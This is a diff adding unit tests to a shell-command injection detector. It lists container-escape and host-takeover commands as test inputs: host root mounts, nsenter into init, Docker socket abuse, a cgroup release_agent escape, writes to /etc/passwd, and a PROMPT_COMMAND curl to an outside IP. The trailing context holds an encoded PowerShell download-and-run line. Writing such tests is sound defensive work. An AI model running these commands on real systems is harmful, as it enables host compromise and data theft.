@@ -222,6 +222,38 @@ describe('detectShell()', () => {
     });
   });
 
+  describe('the host, from a container or a shell', () => {
+    it.each([
+      ['docker run --rm -it -v /:/host alpine chroot /host /bin/bash', 'critical', "host's root file system"],
+      ['docker run --mount type=bind,source=/,target=/h alpine sh', 'critical', "host's root file system"],
+      ['docker run --privileged --pid=host -it alpine nsenter -t 1 -m -u -n -i sh', 'critical', ''],
+      ['nsenter --target 1 --mount --uts --ipc --net --pid -- bash', 'critical', 'init namespaces'],
+      ['docker run -v /var/run/docker.sock:/var/run/docker.sock docker:cli docker ps', 'high', 'runtime socket'],
+      ['docker run -v /etc:/mnt/etc alpine sh -c "echo x >> /mnt/etc/passwd"', 'high', '/etc'],
+      ['curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/create -d @c.json', 'high', 'Docker daemon'],
+      ['mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c && echo 1 > /tmp/c/x/notify_on_release && echo "$p/cmd" > /tmp/c/release_agent', 'critical', 'release_agent'],
+      ['export PROMPT_COMMAND=\'curl -s http://198.51.100.6/$(whoami)\'', 'high', 'every prompt'],
+      ['BASH_ENV=/tmp/.p bash -c true', 'high', 'BASH_ENV'],
+      ['env BASH_ENV=/tmp/.p bash -c true', 'high', 'BASH_ENV'],
+    ])('%s', (command, severity, label) => {
+      expect(signal(run(command), 'command_injection'), command).toMatchObject({ severity, evidence: expect.stringContaining(label) });
+    });
+
+    it('leaves containers of the working tree, and prompt settings people use, alone', () => {
+      for (const command of [
+        'docker run --rm -v $(pwd):/app -w /app node:20 npm test',
+        'docker run --rm -v /home/dev/project:/src golang:1.22 go build ./...',
+        'docker run --privileged --rm tonistiigi/binfmt --install all',
+        'podman run --rm -v /srv/data:/data:ro busybox ls /data',
+        'export PROMPT_COMMAND=\'history -a; history -n\'',
+        'ENV=production node server.js',
+        'nsenter --target 4242 --net ip addr',
+      ]) {
+        expect(signal(run(command), 'command_injection'), command).toBeUndefined();
+      }
+    });
+  });
+
   describe('Windows command lines (cmd.exe, PowerShell)', () => {
     const encoded = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a.ps1")', 'utf16le').toString('base64');
     it.each([
